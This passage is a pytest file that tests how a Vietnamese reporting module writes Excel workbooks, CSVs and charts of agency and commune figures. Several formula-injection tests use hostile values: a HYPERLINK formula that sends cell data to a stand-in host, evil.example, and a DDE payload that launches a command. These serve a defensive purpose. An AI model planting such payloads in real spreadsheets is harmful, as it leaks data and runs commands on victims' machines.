"""The files of a report (models/report_files.py): the workbook opened and read cell by cell,
the CSV parsed back, the chart read back as an image with its Vietnamese labels rendered
(a missing glyph is a warning, and warnings are errors here). Reports are built by hand: no
database."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import warnings
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import openpyxl
import pytest

from bot.i18n import Translations, Translator
from models import report_files
from models.reference import ward_name
from models.report_files import MAX_BARS, chart, csv_bytes, workbook
from models.reports import AgencyLine, Figures, Report, WardLine

ROOT = Path(__file__).resolve().parent.parent
MOMENT = dt.datetime(2026, 11, 29, 17, 0, tzinfo=dt.UTC)  # 2026-W48 ends: Mon 30/11 00:00 local
PNG = b"\x89PNG\r\n\x1a\n"


@pytest.fixture(scope="module")
def translations() -> Translations:
    return Translations()


@pytest.fixture(scope="module")
def vi(translations: Translations) -> Translator:
    return translations.get("vi")


@pytest.fixture(scope="module")
def en(translations: Translations) -> Translator:
    return translations.get("en")


# --------------------------------------------------------------------------------------------
# Reports built by hand: own figures given, each subtree summed as the counting does
# --------------------------------------------------------------------------------------------

# (id, code, name, parent id, own expected staff, own figures, own figures last week)
TREE = [
    (1, "UBND-MK", "Ủy ban nhân dân xã Mường Khương", None, 10,
     Figures(4, 3, 2, 5, (2, 1)), Figures(2, 1, 0, 3, (1,))),
    (2, "THPT-BH", "Trường THPT số 1 Bắc Hà", 1, 40,
     Figures(20, 10, 6, 4, (8,)), Figures(15, 8, 4, 2, (6,))),
    (3, "TYT-NL", "Trạm y tế Phường Nghĩa Lộ", 1, 12,
     Figures(12, 12, 10, 9, (12, 7, 1)), Figures(12, 11, 9, 8, (12, 5))),
    (4, "MN-HB", "Trường mầm non Hoa Ban", 1, 0, Figures(), Figures()),
    (5, "THPT-BH.TOAN", "Tổ Toán – Tin", 2, 8,
     Figures(6, 5, 1, 0, (3,)), Figures(3, 2, 0, 0, (1,))),
    (6, "THPT-BH.VAN", "Tổ Ngữ văn", 2, 7, Figures(1, 0), None),
]


def _lines(
    tree: list[tuple], with_previous: bool = True, base_depth: int = 0
) -> list[AgencyLine]:
    """AgencyLines in tree order (depth first, siblings by code), subtrees summed."""
    children: dict[int | None, list[tuple]] = {}
    for row in tree:
        children.setdefault(row[3], []).append(row)

    def total(row: tuple) -> tuple[int, Figures, Figures | None]:
        expected, figures, previous = row[4], row[5], row[6]
        for child in children.get(row[0], []):
            e, f, p = total(child)
            expected, figures = expected + e, figures + f
            previous = None if previous is None or p is None else previous + p
        return expected, figures, previous

    out: list[AgencyLine] = []

    def walk(parent: int | None, depth: int) -> None:
        for row in sorted(children.get(parent, []), key=lambda r: r[1]):
            expected, figures, previous = total(row)
            out.append(AgencyLine(row[0], row[1], row[2], "unit", row[3], depth, expected,
                                  row[5], figures, previous if with_previous else None))
            walk(row[0], depth + 1)

    roots = {row[3] for row in tree} - {row[0] for row in tree}
    for parent in sorted(roots, key=lambda p: p or 0):
        walk(parent, base_depth)
    return out


def agency_report(with_previous: bool = True, week: str | None = "2026-W48") -> Report:
    lines = _lines(TREE, with_previous)
    root = lines[0]
    return Report("agency", week, MOMENT, "2026-W47" if with_previous else None, root=root,
                  lines=lines, total=root.total, previous_total=root.previous)


WARDS = [
    WardLine(4288, 15, registered=120, adults=100, booked=30, vaccinated=60,
             adults_vaccinated=50, previous_registered=100),
    WardLine(2761, 15, registered=80, adults=70, booked=5, vaccinated=10, adults_vaccinated=7,
             previous_registered=None),
    WardLine(2839, 15, registered=3, adults=0, booked=0, vaccinated=0, adults_vaccinated=0,
             previous_registered=3),
]


def province_report() -> Report:
    # two top-level agencies: the commune's tree above and a department without sub-units
    tree = [*TREE, (7, "SYT", "Sở Y tế", None, 30, Figures(25, 20, 3, 1, (1,)), None)]
    lines = _lines(tree)
    top = [line for line in lines if line.depth == 0]
    total = top[0].total + top[1].total
    return Report("province", "2026-W48", MOMENT, "2026-W47", lines=lines, total=total,
                  wards=WARDS)


def communes_report() -> Report:
    return Report("communes", "2026-W48", MOMENT, "2026-W47", wards=WARDS)


def open_book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def rows_of(ws) -> list[tuple]:
    return list(ws.iter_rows(values_only=True))


def facts_of(ws) -> dict[str, object]:
    """A summary sheet's label: value pairs (rows of two cells or more; read-only mode gives
    a row only the cells it has)."""
    return {r[0]: r[1] for r in ws.iter_rows(values_only=True) if len(r) > 1}


def by_code(ws) -> dict[str, tuple]:
    """A level sheet's rows by agency code, as {header: value}; the total row (no code) left
    out."""
    rows = rows_of(ws)
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[0]}


# --------------------------------------------------------------------------------------------
# The workbook
# --------------------------------------------------------------------------------------------


def test_workbook_sheets_headers_and_layout_in_vietnamese(vi: Translator) -> None:
    book = open_book(workbook(agency_report(), vi))
    assert book.sheetnames == ["Tổng hợp", "Cấp 1", "Cấp 2"]
    level1 = book["Cấp 1"]
    header = rows_of(level1)[0]
    assert header == (
        "Mã đơn vị", "Tên đơn vị", "Đơn vị cấp trên", "Biên chế", "Đã tham gia",
        "Đã tham gia (% biên chế)", "Có sổ sức khỏe", "Có sổ sức khỏe (% biên chế)",
        "Đã đặt lịch", "Đã tiêm mũi 1", "Đã tiêm mũi 2", "Đã tiêm mũi 3",
        "Người thân đã đăng ký", "Đã tham gia: thay đổi so với tuần trước",
        "Có sổ sức khỏe: thay đổi so với tuần trước", "Trực tiếp: đã tham gia",
        "Trực tiếp: có sổ sức khỏe",
    )
    for ws in (level1, book["Cấp 2"]):
        assert ws.freeze_panes == "C2"  # the header, the code and the name stay in sight
        assert all(cell.font.b for cell in ws[1])
        assert ws.column_dimensions["B"].width >= 40  # the name
        assert ws.column_dimensions["A"].width >= 12
    # each sheet holds its level only, siblings by code; level 1 begins with the root's own
    # members; a total row (no code) ends each
    assert [r[0] for r in rows_of(level1)[1:]] == ["UBND-MK", "MN-HB", "THPT-BH", "TYT-NL", None]
    assert [r[0] for r in rows_of(book["Cấp 2"])[1:]] == ["THPT-BH.TOAN", "THPT-BH.VAN", None]


def test_workbook_rows_count_whole_subtrees(vi: Translator) -> None:
    book = open_book(workbook(agency_report(), vi))
    school = by_code(book["Cấp 1"])["THPT-BH"]
    # own 20 joined of 40 expected; its two groups add 6+1 joined and 8+7 expected
    assert school["Biên chế"] == 55
    assert school["Đã tham gia"] == 27
    assert school["Đã tham gia (% biên chế)"] == pytest.approx(27 / 55)
    assert school["Có sổ sức khỏe"] == 15
    assert school["Có sổ sức khỏe (% biên chế)"] == pytest.approx(15 / 55)
    assert school["Đã tiêm mũi 1"] == 11
    assert school["Đã tiêm mũi 3"] == 0
    assert school["Đơn vị cấp trên"] == "UBND-MK"
    assert school["Trực tiếp: đã tham gia"] == 20
    assert school["Trực tiếp: có sổ sức khỏe"] == 10
    # last week: the school 15+3 and one group with nothing stored -> no change shown
    assert school["Đã tham gia: thay đổi so với tuần trước"] is None
    health = by_code(book["Cấp 1"])["TYT-NL"]
    assert health["Đã tham gia: thay đổi so với tuần trước"] == 0
    assert health["Có sổ sức khỏe: thay đổi so với tuần trước"] == 1
    assert health["Có sổ sức khỏe (% biên chế)"] == 1.0
    assert health["Đã tiêm mũi 3"] == 1
    # no expected staff: the share is left blank, not 0 or an error
    nursery = by_code(book["Cấp 1"])["MN-HB"]
    assert nursery["Biên chế"] == 0
    assert nursery["Đã tham gia (% biên chế)"] is None
    group = by_code(book["Cấp 2"])["THPT-BH.TOAN"]
    assert (group["Đơn vị cấp trên"], group["Đã tham gia"],
            group["Đã tham gia: thay đổi so với tuần trước"]) == ("THPT-BH", 6, 3)


def test_workbook_cell_types_and_formats(vi: Translator) -> None:
    ws = open_book(workbook(agency_report(), vi))["Cấp 1"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    joined, share, change = rows["THPT-BH"][4], rows["THPT-BH"][5], rows["TYT-NL"][14]
    assert isinstance(joined.value, int) and not isinstance(joined.value, bool)
    assert isinstance(share.value, float)
    assert share.number_format == "0.0%"
    assert isinstance(change.value, int)
    assert "+" in change.number_format


def test_workbook_summary(vi: Translator) -> None:
    ws = open_book(workbook(agency_report(), vi))["Tổng hợp"]
    rows = rows_of(ws)
    facts = {r[0]: r[1] for r in rows if r[0] and r[1] is not None}
    assert facts["Phạm vi"] == "Đơn vị và các đơn vị trực thuộc"
    assert facts["Đơn vị"] == "Ủy ban nhân dân xã Mường Khương (UBND-MK)"
    assert facts["Kỳ báo cáo"] == "Tuần 2026-W48 (từ 23/11/2026 đến 29/11/2026)"
    assert facts["Số liệu tính đến"].startswith("00:00 ngày 30/11/2026")
    assert facts["So sánh với"] == "Tuần 2026-W47"
    figures = {r[0]: r[1:] for r in rows}
    # the whole tree: 4+20+12+0+6+1 joined of 10+40+12+0+8+7 expected
    assert figures["Biên chế"][0] == 77
    assert figures["Đã tham gia"][0] == 43
    assert figures["Đã tham gia"][1] == pytest.approx(43 / 77)
    # the Ngữ văn group has no week stored, so the root's last week is unknown: no change
    assert figures["Đã tham gia"][2] is None
    assert figures["Người thân đã đăng ký"][0] == 18
    assert figures["Đã tiêm mũi 2"][0] == 8


def test_workbook_summary_change_and_none_without_previous(vi: Translator) -> None:
    report = agency_report()
    report.previous_total = Figures(30, 20, 10, 10, (15,))
    rows = {r[0]: r[1:] for r in rows_of(open_book(workbook(report, vi))["Tổng hợp"])}
    assert rows["Đã tham gia"][2] == 13
    assert rows["Đã tiêm mũi 1"][2] == (2 + 8 + 12 + 3) - 15
    assert rows["Đã tiêm mũi 2"][2] == 8  # none last week
    assert rows["Biên chế"][2] is None

    bare = agency_report(with_previous=False)
    book = open_book(workbook(bare, vi))
    facts = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    assert facts["So sánh với"][0] == "Chưa có số liệu tuần trước"
    assert facts["Đã tham gia"][2] is None
    for row in list(by_code(book["Cấp 1"]).values()) + list(by_code(book["Cấp 2"]).values()):
        assert row["Đã tham gia: thay đổi so với tuần trước"] is None
        assert row["Có sổ sức khỏe: thay đổi so với tuần trước"] is None


def test_workbook_in_english(en: Translator) -> None:
    book = open_book(workbook(province_report(), en))
    assert book.sheetnames == ["Summary", "Level 1", "Level 2", "Level 3", "Communes"]
    header = rows_of(book["Level 1"])[0]
    assert header[:6] == ("Code", "Name", "Parent code", "Expected staff", "Joined",
                          "Joined (% of expected staff)")
    assert rows_of(book["Communes"])[0][:3] == ("Commune code", "Commune or ward", "Registered")
    facts = {r[0]: r[1] for r in rows_of(book["Summary"])}
    assert facts["Scope"] == "The whole province"
    assert facts["Period"] == "Week 2026-W48 (23/11/2026 to 29/11/2026)"


def test_province_workbook_levels_and_wards(vi: Translator) -> None:
    book = open_book(workbook(province_report(), vi))
    assert book.sheetnames == ["Tổng hợp", "Cấp 1", "Cấp 2", "Cấp 3", "Xã, phường"]
    top = by_code(book["Cấp 1"])
    assert set(top) == {"SYT", "UBND-MK"}
    assert top["SYT"]["Đơn vị cấp trên"] is None
    assert top["UBND-MK"]["Đã tham gia"] == 43
    summary = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    assert summary["Đơn vị"][0] == "Toàn tỉnh"
    assert summary["Biên chế"][0] == 77 + 30
    assert summary["Đã tham gia"][0] == 43 + 25
    assert summary["Đã tham gia"][2] is None  # previous_total None
    assert summary["Đã đăng ký"][0] == 203
    assert summary["Người lớn đã tiêm"][1] == pytest.approx(57 / 170)

    wards = book["Xã, phường"]
    assert wards.freeze_panes == "C2"
    rows = rows_of(wards)
    assert rows[0] == ("Mã xã, phường", "Tên xã, phường", "Đã đăng ký", "Người lớn (từ 18 tuổi)",
                       "Đã đặt lịch", "Đã tiêm (ít nhất 1 mũi)", "Người lớn đã tiêm",
                       "Tỷ lệ người lớn đã tiêm (%)", "Đăng ký: thay đổi so với tuần trước")
    assert rows[1] == (4288, "Phường Nghĩa Lộ", 120, 100, 30, 60, 50, 0.5, 20)
    assert rows[2][1] == ward_name(2761) == "Xã Mường Khương"
    assert rows[2][7] == pytest.approx(0.1)
    assert rows[2][8] is None  # no week stored
    assert rows[3][7] is None  # no adults: no share
    assert rows[3][8] == 0
    share = next(wards.iter_rows(min_row=2, max_row=2))[7]
    assert share.number_format == "0.0%"


def test_communes_workbook(vi: Translator) -> None:
    report = communes_report()
    report.wards = [*WARDS, WardLine(99999, 15, registered=1)]  # a code the list lacks
    book = open_book(workbook(report, vi))
    assert book.sheetnames == ["Tổng hợp", "Xã, phường"]
    rows = rows_of(book["Xã, phường"])
    assert [r[1] for r in rows[1:]] == ["Phường Nghĩa Lộ", "Xã Mường Khương", "Xã Bắc Hà",
                                        "Xã, phường mã 99999", "Tổng cộng"]
    summary = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    assert "Đơn vị" not in summary
    assert "Biên chế" not in summary  # no staff table for the communes
    assert summary["Số xã, phường có người đăng ký"][0] == 4
    assert summary["Đã đăng ký"][0] == 204
    assert summary["Đã đăng ký"][2] is None  # one commune has no week stored


def test_live_report_says_when(vi: Translator, en: Translator) -> None:
    report = agency_report(week=None)
    report.moment = dt.datetime(2026, 11, 26, 2, 15, tzinfo=dt.UTC)
    facts = {r[0]: r[1] for r in rows_of(open_book(workbook(report, vi))["Tổng hợp"])}
    assert facts["Kỳ báo cáo"] == "Số liệu trực tiếp lúc 09:15 ngày 26/11/2026"
    assert facts["Số liệu tính đến"].startswith("09:15 ngày 26/11/2026")
    assert report_files.period(report, en) == "Live figures at 09:15 on 26/11/2026"


def test_report_without_sub_units(vi: Translator) -> None:
    lines = _lines([TREE[0]])
    report = Report("agency", "2026-W48", MOMENT, root=lines[0], lines=lines, total=lines[0].total)
    book = open_book(workbook(report, vi))
    assert book.sheetnames == ["Tổng hợp"]
    facts = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    assert facts["Đã tham gia"][:2] == (4, 0.4)
    rows = list(csv.reader(io.StringIO(csv_bytes(report, vi).decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][:3] == ["0", "UBND-MK", "Ủy ban nhân dân xã Mường Khương"]
    png = chart(report, vi)
    assert png.startswith(PNG)
    shown, count, _, _ = report_files._chosen(report, vi)
    assert count == 1 and shown[0].label == "Ủy ban nhân dân xã Mường Khương"
    assert shown[0].main == pytest.approx(0.3)


def test_same_report_same_bytes(vi: Translator) -> None:
    first = workbook(province_report(), vi)
    assert workbook(province_report(), vi) == first
    book = open_book(first)
    assert book.properties.created == book.properties.modified == dt.datetime(2026, 11, 29, 17)
    later = province_report()
    later.moment += dt.timedelta(days=7)
    assert workbook(later, vi) != first


def test_awkward_names_survive(vi: Translator) -> None:
    """Names with XML's special characters or a stray control character (a pasted name)."""
    tree = [(1, "R&D", "Ban <Quản lý> & \"Dự án\" \x07số 1", None, 5, Figures(1, 1), None),
            (2, "R&D.1", "  Tổ 1 & 2 'A'  ", 1, 5, Figures(2, 1), None)]
    lines = _lines(tree)
    report = Report("agency", "2026-W48", MOMENT, root=lines[0], lines=lines, total=lines[0].total)
    for read_only in (False, True):  # as the tests of /report read it, too
        book = openpyxl.load_workbook(io.BytesIO(workbook(report, vi)), read_only=read_only)
        rows = [tuple(r) for r in book["Cấp 1"].iter_rows(values_only=True)]
        assert rows[2][:4] == ("R&D.1", "  Tổ 1 & 2 'A'  ", "R&D", 5)
        facts = facts_of(book["Tổng hợp"])
        assert facts["Đơn vị"] == 'Ban <Quản lý> & "Dự án" số 1 (R&D)'
    rows = parse_csv(csv_bytes(report, vi))
    assert rows[0]["Tên đơn vị"] == "Ban <Quản lý> & \"Dự án\" số 1"  # no control character
    assert chart(report, vi).startswith(PNG)  # no glyph missing for the control character
    assert [b.label for b in report_files._chosen(report, vi)[0]] == [
        'Ban <Quản lý> & "Dự án" số 1 (trực tiếp)', "Tổ 1 & 2 'A'"]


def two_agencies(name: str, child: str, code: str = "X1", child_code: str = "X2") -> Report:
    """An agency and its one sub-unit, which had 4 joined last week and has 1 now (-3)."""
    lines = _lines([(1, code, name, None, 10, Figures(2, 1), Figures(2, 1)),
                    (2, child_code, child, 1, 5, Figures(1), Figures(4))])
    return Report("agency", "2026-W48", MOMENT, "2026-W47", root=lines[0], lines=lines,
                  total=lines[0].total, previous_total=lines[0].previous)


def sheets_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(n).decode() for n in archive.namelist()
                if n.startswith("xl/worksheets/sheet")]


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://evil.example/?"&A1,"Sở Y tế")', "=1+2", "+1", "-A1", "@SUM(1+1)", "#N/A",
])
def test_names_are_never_formulas_in_the_workbook(vi: Translator, name: str) -> None:
    """openpyxl makes any text beginning with "=" a formula (and "#N/A" an error): every text
    cell is written as text, the summary sheet's too."""
    data = workbook(two_agencies(name, name, child_code="-X2"), vi)
    sheets = sheets_xml(data)
    assert len(sheets) == 2  # the summary, level 1
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet
        # text inline everywhere (openpyxl's cells and the rows written here alike), no
        # formula's cached text ("str"), no error ("e"), no shared string ("s")
        types = set(re.findall(r'<c [^>]*\bt="(\w+)"', sheet))
        assert "inlineStr" in types and types <= {"inlineStr", "n"}
    for read_only in (False, True):
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
        facts = facts_of(book["Tổng hợp"])
        assert facts["Đơn vị"] == f"{name} (X1)"
        assert list(book["Cấp 1"].iter_rows(values_only=True))[2][:3] == ("-X2", name, "X1")


def test_names_are_never_formulas_in_the_csv(vi: Translator) -> None:
    """A text field beginning with = + - @ tab or CR gets a quote before it (OWASP's advice:
    Excel and LibreOffice would run it); numbers, a change of -3 too, stay numbers."""
    report = two_agencies("=1+2", "@SUM(1+1)*cmd|' /C calc'!A0", code="-X1", child_code="-X2")
    rows = parse_csv(csv_bytes(report, vi))
    assert [r["Tên đơn vị"] for r in rows] == ["'=1+2", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert [(r["Mã đơn vị"], r["Đơn vị cấp trên"]) for r in rows] == [("'-X1", ""),
                                                                       ("'-X2", "'-X1")]
    assert rows[1]["Đã tham gia: thay đổi so với tuần trước"] == "-3"
    for name in ("+1", "\t=1", "\r=1", "-1"):
        rows = parse_csv(csv_bytes(two_agencies("Sở Y tế", name), vi))
        assert rows[1]["Tên đơn vị"] == "'" + name
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r"))
            assert not value.startswith("-") or value[1:].isdigit()


@pytest.mark.parametrize("bad", ["\uffff", "\ufffe", "\ud800", "\x00", "\x1b", "\x0b"])
def test_characters_xml_cannot_hold_are_left_out(vi: Translator, bad: str) -> None:
    """Not an XML 1.0 character (U+FFFE, U+FFFF, a lone surrogate, a control character): one
    in a name would make the whole workbook unreadable; it is left out, of the chart too."""
    report = two_agencies(f"Sở{bad} Y tế", f"Tổ{bad}[31m 1{bad}")
    data = workbook(report, vi)
    for read_only in (False, True):
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
        rows = {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}
        assert facts_of(book["Tổng hợp"])["Đơn vị"] == "Sở Y tế (X1)"
        assert rows["Cấp 1"][1][1] == "Sở Y tế (trực tiếp)"
        assert rows["Cấp 1"][2][1] == "Tổ[31m 1"
    assert parse_csv(csv_bytes(report, vi))[1]["Tên đơn vị"] == "Tổ[31m 1"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert chart(report, vi).startswith(PNG)
    assert [str(w.message) for w in caught] == []
    label = "Tổ [31m 1" if bad.isspace() else "Tổ[31m 1"  # a vertical tab: a space
    assert [b.label for b in report_files._chosen(report, vi)[0]] == [
        label, "Sở Y tế (trực tiếp)"]


def test_counts_show_thousands_and_changes_their_sign(vi: Translator) -> None:
    ws = open_book(workbook(agency_report(), vi))["Cấp 1"]
    row = next(ws.iter_rows(min_row=3, max_row=3))  # a sub-unit, with a change
    assert row[3].number_format == "#,##0"  # expected staff
    assert row[13].number_format.startswith("+")  # a change


SUMMED = ["Biên chế", "Đã tham gia", "Có sổ sức khỏe", "Đã đặt lịch", "Đã tiêm mũi 1",
          "Người thân đã đăng ký"]


def test_level_one_adds_up_to_the_summary(vi: Translator, en: Translator) -> None:
    """The root's own members are a row of level 1, first ("… (trực tiếp)", as the chart's bar
    and the CSV's level 0): a head adding up level 1 finds the summary's totals; the total row
    says so; the summary's footnote describes that row."""
    report = two_agencies("Bệnh viện Đa khoa", "Khoa Nội")  # every week stored: changes too
    book = open_book(workbook(report, vi))
    rows = rows_of(book["Cấp 1"])
    assert len(rows) == 4
    own, unit, total = (dict(zip(rows[0], r, strict=True)) for r in rows[1:])
    assert (own["Mã đơn vị"], own["Tên đơn vị"], own["Đơn vị cấp trên"]) == (
        "X1", "Bệnh viện Đa khoa (trực tiếp)", "X1")
    # own: 2 joined, 1 complete of the 10 expected the sub-unit leaves; 2 joined last week too
    assert (own["Biên chế"], own["Đã tham gia"], own["Có sổ sức khỏe"]) == (10, 2, 1)
    assert own["Đã tham gia (% biên chế)"] == pytest.approx(0.2)
    assert own["Đã tham gia: thay đổi so với tuần trước"] == 0
    assert (own["Trực tiếp: đã tham gia"], own["Trực tiếp: có sổ sức khỏe"]) == (2, 1)
    assert unit["Mã đơn vị"] == "X2"
    summary = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    for label in SUMMED:
        assert own[label] + unit[label] == total[label] == summary[label][0], label
    change = "Đã tham gia: thay đổi so với tuần trước"
    assert own[change] + unit[change] == total[change] == summary["Đã tham gia"][2] == -3
    assert (total["Mã đơn vị"], total["Tên đơn vị"]) == (None, "Tổng cộng")
    assert total["Đã tham gia (% biên chế)"] == pytest.approx(summary["Đã tham gia"][1])
    assert all(cell.font.b for cell in book["Cấp 1"][4] if cell.value is not None)
    notes = [r[0] for r in rows_of(book["Tổng hợp"]) if r[0] and "“Cấp" in r[0]]
    assert any("“Bệnh viện Đa khoa (trực tiếp)”" in note for note in notes)
    assert any("“Tổng cộng”" in note for note in notes)

    # deeper trees: level 1 of the commune adds up; deeper levels have their own total
    book = open_book(workbook(agency_report(), vi))
    rows = rows_of(book["Cấp 1"])
    summary = {r[0]: r[1:] for r in rows_of(book["Tổng hợp"])}
    for i, label in enumerate(rows[0]):
        if label in SUMMED:
            assert sum(r[i] for r in rows[1:-1]) == rows[-1][i] == summary[label][0], label
    level2 = rows_of(book["Cấp 2"])
    assert level2[-1][1:5] == ("Tổng cộng", None, 15, 7)

    # the province: its top-level agencies add up, no row of its own
    book = open_book(workbook(province_report(), en))
    rows = rows_of(book["Level 1"])
    assert [r[0] for r in rows[1:]] == ["SYT", "UBND-MK", None]
    assert rows[-1][1] == "Total" and rows[-1][3:5] == (107, 68)
    assert rows_of(book["Communes"])[-1][:4] == (None, "Total", 203, 170)
    facts = [r[0] for r in rows_of(book["Summary"]) if r[0]]
    assert "The “Total” row of “Level 1” equals the totals above." in facts

    english = rows_of(open_book(workbook(report, en))["Level 1"])
    assert english[1][1] == "Bệnh viện Đa khoa (own members)"


def test_sheets_filter_and_print_on_one_page_wide(vi: Translator) -> None:
    """An autofilter over the header and the rows (not the total, so sorting leaves it last);
    printed landscape, one page wide, the header on every page."""
    book = open_book(workbook(province_report(), vi))
    for title, ref in (("Cấp 1", "A1:Q3"), ("Cấp 2", "A1:Q4"), ("Xã, phường", "A1:I4")):
        ws = book[title]
        assert ws.auto_filter.ref == ref, title
        assert ws.page_setup.orientation == "landscape"
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.print_title_rows == "$1:$1"
        assert ws.freeze_panes == "C2"
    # the workbook is still the same for the same report
    assert workbook(province_report(), vi) == workbook(province_report(), vi)

def test_sheet_titles_excel_accepts() -> None:
    taken: set[str] = set()
    first = report_files._sheet_title("Xã/phường: [tháng 11]? *" + "x" * 40, taken)
    assert len(first) <= 31
    assert not set(first) & set("[]:*?/\\")
    again = report_files._sheet_title("Xã/phường: [tháng 11]? *" + "x" * 40, taken)
    assert again != first and len(again) <= 31


# --------------------------------------------------------------------------------------------
# The CSV
# --------------------------------------------------------------------------------------------


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_of_an_agency(vi: Translator) -> None:
    rows = parse_csv(csv_bytes(agency_report(), vi))
    assert [(r["Cấp"], r["Mã đơn vị"]) for r in rows] == [
        ("0", "UBND-MK"), ("1", "MN-HB"), ("1", "THPT-BH"), ("2", "THPT-BH.TOAN"),
        ("2", "THPT-BH.VAN"), ("1", "TYT-NL"),
    ]
    school = rows[2]
    assert school["Tên đơn vị"] == "Trường THPT số 1 Bắc Hà"
    assert school["Đơn vị cấp trên"] == "UBND-MK"
    assert school["Đã tham gia"] == "27"
    assert school["Đã tham gia (% biên chế)"] == "49.1"  # 27 of 55
    assert school["Đã tham gia: thay đổi so với tuần trước"] == ""
    assert rows[5]["Có sổ sức khỏe: thay đổi so với tuần trước"] == "1"
    assert rows[1]["Đã tham gia (% biên chế)"] == ""  # no expected staff
    assert rows[0]["Trực tiếp: đã tham gia"] == "4"


def test_csv_of_the_province_and_the_communes(vi: Translator, en: Translator) -> None:
    rows = parse_csv(csv_bytes(province_report(), en))
    assert rows[0]["Level"] == "0" and rows[0]["Name"] == "The whole province"
    assert rows[0]["Code"] == "" and rows[0]["Own: joined"] == ""
    assert rows[0]["Joined"] == str(43 + 25)
    assert [r["Code"] for r in rows if r["Level"] == "1"] == ["SYT", "UBND-MK"]
    assert sum(int(r["Joined"]) for r in rows if r["Level"] == "1") == int(rows[0]["Joined"])

    wards = parse_csv(csv_bytes(communes_report(), vi))
    assert [w["Tên xã, phường"] for w in wards] == ["Phường Nghĩa Lộ", "Xã Mường Khương",
                                                    "Xã Bắc Hà"]
    assert wards[0]["Tỷ lệ người lớn đã tiêm (%)"] == "50.0"
    assert wards[0]["Đăng ký: thay đổi so với tuần trước"] == "20"
    assert wards[2]["Tỷ lệ người lớn đã tiêm (%)"] == ""


def test_csv_for_excel_with_vietnamese_settings(vi: Translator) -> None:
    """``excel_vn``: ";" between fields and "," in decimals, as Excel reads a CSV on a PC with
    Vietnamese regional settings; the default stays "," and "." (programs read it)."""
    report = two_agencies("=1+2", "Khoa; Nội, \"A\"", code="-X1")
    default = csv_bytes(report, vi)
    assert default.decode("utf-8-sig").splitlines()[1].startswith("0,'-X1,'=1+2,,15,3,20.0,")
    excel = csv_bytes(report, vi, excel_vn=True)
    assert excel.startswith(b"\xef\xbb\xbf")
    lines = excel.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("Cấp;Mã đơn vị;Tên đơn vị;Đơn vị cấp trên;Biên chế;Đã tham gia;")
    assert lines[1].startswith("0;'-X1;'=1+2;;15;3;20,0;1;6,7;")  # formulas still quoted
    rows = list(csv.DictReader(io.StringIO(excel.decode("utf-8-sig")), delimiter=";"))
    assert rows[1]["Tên đơn vị"] == "Khoa; Nội, \"A\""  # quoted as need be
    assert rows[1]["Đã tham gia (% biên chế)"] == "20,0"
    assert rows[1]["Đã tham gia: thay đổi so với tuần trước"] == "-3"
    wards = list(csv.DictReader(io.StringIO(
        csv_bytes(communes_report(), vi, excel_vn=True).decode("utf-8-sig")), delimiter=";"))
    assert wards[0]["Tỷ lệ người lớn đã tiêm (%)"] == "50,0"

# --------------------------------------------------------------------------------------------
# The chart
# --------------------------------------------------------------------------------------------

VIETNAMESE = (
    "aàáảãạăằắẳẵặâầấẩẫậbcdđeèéẻẽẹêềếểễệghiìíỉĩịklmnoòóỏõọôồốổỗộơờớởỡợpqrstuùúủũụưừứửữựvx"
    "yỳýỷỹỵ"
)


def read_png(data: bytes):
    from matplotlib.image import imread

    return imread(io.BytesIO(data), format="png")


def test_chart_is_a_modest_png_with_vietnamese_labels(vi: Translator) -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        data = chart(agency_report(), vi)
    assert [str(w.message) for w in caught] == []  # no "Glyph … missing from font(s)"
    assert data.startswith(PNG)
    assert 10_000 < len(data) < 250_000
    image = read_png(data)
    assert image.shape[1] == 1000  # pixels wide
    assert 250 <= image.shape[0] <= 1400


def test_every_vietnamese_letter_is_in_the_font() -> None:
    from matplotlib import font_manager
    from matplotlib.ft2font import FT2Font

    path = font_manager.findfont(font_manager.FontProperties(family="DejaVu Sans"),
                                 fallback_to_default=False)
    font = FT2Font(path)
    letters = VIETNAMESE + VIETNAMESE.upper() + "–…·%()"
    assert [c for c in letters if font.get_char_index(ord(c)) == 0] == []


def test_a_missing_glyph_would_fail(vi: Translator) -> None:
    """The check above can fail: a text of the catalogues the font cannot draw makes
    matplotlib warn (names lose such characters, below; the catalogues' texts do not)."""

    def t(key: str, /, **params) -> str:
        return "Có sổ 漢字" if key == "report.chart.complete" else vi(key, **params)

    with pytest.warns(UserWarning, match="missing from font"):
        chart(agency_report(), t)


def test_what_the_font_cannot_draw_is_left_out_of_names(vi: Translator) -> None:
    """An emoji or a Chinese character in a name would be drawn as a box: it is left out;
    a name left with nothing is shown by its code."""
    report = two_agencies("🏥 Bệnh viện 漢字 Đa khoa", "🏥🏥")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert chart(report, vi).startswith(PNG)
    assert [str(w.message) for w in caught] == []
    assert report_files._title(report, vi).startswith("Bệnh viện Đa khoa")
    assert [b.label for b in report_files._chosen(report, vi)[0]] == [
